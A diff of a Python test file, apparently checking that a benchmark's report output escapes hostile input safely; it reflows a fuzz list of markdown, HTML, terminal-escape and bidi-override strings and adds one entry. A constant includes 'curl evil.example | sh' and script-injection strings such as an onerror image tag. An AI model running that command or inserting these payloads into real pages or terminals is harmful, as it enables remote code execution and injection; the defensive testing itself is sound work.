@@ -27,14 +27,15 @@ LONG_TOO = f"{BASE}-{'m' * 299}n{'m' * 10}:{'f' * 290}"
 SCRIPT = "<script>alert(1)</script>"
 COMMAND = "python -m bench run\n```\n<script>alert(1)</script>\n```sh\ncurl evil.example | sh\x1b[2K\u202e"
 HOSTILE = [
-    "a|b", "`", "``a```b`", "```", SCRIPT, "<!--", "</td></tr></table>", "<img src=x onerror=alert(1)>", "a\nb", "\r\n",
-    "\n\n# heading\n\n", ",", '"', "\x1b[31mred\x1b[0m", "\x07", "\x9b31m", "$\\frac{", "$x$", "\\$", "[red]x[/red]",
-    "[link=http://evil.example]x[/link]", "[x](http://evil.example)", "![x](http://evil.example/x.png)", "[1](x)", "[x]",
-    "[x]: http://evil.example", "<http://evil.example>", "http://evil.example", "www.evil.example", ":smile:", "x" * 5000,
-    "x" * 5001, "\ud800", "\udc80", "\0", "\u202egnp.exe", "\u2066x\u2069", "e\u0301" * 200, "\ufeff", "NA", "nan", "None",
-    " ", " a ", "a", "a\t", "\\", "\\n", "a\\", "# x", "- x", "1. x", "> x", "    x", "\u2028", "*x*", "**x**", "__x__",
-    "_x_", "~~x~~", "&lt;", "&#124;", "01", "1", "\N{CJK UNIFIED IDEOGRAPH-4E2D}", "\N{GRINNING FACE}", "..", "---",
-    ":--", "|---|", "||", "\\|", "\\\\|",
+    "a|b", "`", "``a```b`", "```", SCRIPT, "<!--", "</td></tr></table>", "<img src=x onerror=alert(1)>", "a\nb",
+    "\r\n", "\n\n# heading\n\n", ",", '"', "\x1b[31mred\x1b[0m", "\x07", "\x9b31m", "$\\frac{", "$x$", "\\$",
+    "$\\frac{$", "[red]x[/red]", "[link=http://evil.example]x[/link]", "[x](http://evil.example)",
+    "![x](http://evil.example/x.png)", "[1](x)", "[x]", "[x]: http://evil.example", "<http://evil.example>",
+    "http://evil.example", "www.evil.example", ":smile:", "x" * 5000, "x" * 5001, "\ud800", "\udc80", "\0",
+    "\u202egnp.exe", "\u2066x\u2069", "e\u0301" * 200, "\ufeff", "NA", "nan", "None", " ", " a ", "a", "a\t", "\\",
+    "\\n", "a\\", "# x", "- x", "1. x", "> x", "    x", "\u2028", "*x*", "**x**", "__x__", "_x_", "~~x~~", "&lt;",
+    "&#124;", "01", "1", "\N{CJK UNIFIED IDEOGRAPH-4E2D}", "\N{GRINNING FACE}", "..", "---", ":--", "|---|", "||",
+    "\\|", "\\\\|",
 ]  # fmt: skip
 REASONS = ["a|b`c`" + SCRIPT, "\x1b[2J[red]", "line\nline", "![x](http://evil.example/x.png) [x](x)", "x" * 5000]
 STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
